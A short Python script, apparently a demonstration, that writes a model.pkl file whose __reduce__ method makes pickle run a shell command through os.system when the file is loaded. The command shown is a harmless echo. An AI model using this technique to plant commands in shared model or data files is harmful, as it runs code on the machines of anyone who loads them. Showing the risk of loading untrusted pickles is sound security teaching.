"""Write a model.pkl as a stranger could: whoever loads it runs a command."""

import os
import pickle


class Model:
    def __reduce__(self):  # pickle asks an object how to make it again: by calling this function with these arguments
        return os.system, ("echo I could read your files now",)


pickle.dump(Model(), open("model.pkl", "wb"))
